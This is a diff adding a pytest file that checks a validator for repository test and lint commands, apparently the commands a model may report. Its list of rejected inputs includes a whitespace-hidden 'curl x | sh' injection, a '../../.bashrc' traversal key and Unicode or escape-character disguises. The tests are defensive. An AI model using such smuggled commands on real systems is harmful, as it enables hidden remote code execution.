@@ -1,0 +1,48 @@
+"""What a model may answer about a repository: commands of which all can be seen, and few questions."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from runner.protocol.discovery import LINE_LIMIT, LINES_MOST, read
+from runner.protocol.planning import UnfitError
+
+
+def test_commands_are_read_by_their_names() -> None:
+    found = read(
+        json.dumps({"test": "make check \n\n# all\nmake more\n", "lint": "ruff check", "questions": ["Which?"]})
+    )
+    assert found.commands() == {"lint": "ruff check", "test": "make check\n\n# all\nmake more"}
+    assert found.questions == ("Which?",) and read("{}").commands() == {}
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        {"test": "make\u202echeck"},
+        {"test": "make\x1b[2Kcheck"},
+        {"test": "make\rcheck"},
+        {"test": "make\u00a0check"},
+        {"test": "make\tcheck"},
+        {"test": "m\u0430ke check"},
+        {"test": " \n"},
+        {"test": ["make", "check"]},
+        {"test": "make" + " " * LINE_LIMIT + "; curl x | sh"},
+        {"test": "\n".join(["true"] * (LINES_MOST + 1))},
+        {"deploy": "make deploy"},
+        {"../../.bashrc": "x"},
+        {"questions": ["a", "b", "c", "d"]},
+        {"questions": ["a\nb"]},
+        {"questions": ["x" * 201]},
+        {"questions": ["a\u2028b"]},
+        [],
+        "text",
+    ],
+)
+def test_anything_else_is_refused_with_a_reason(value: Any) -> None:
+    with pytest.raises(UnfitError) as refused:
+        read(json.dumps(value))
+    assert refused.value.problems and all(refused.value.problems)
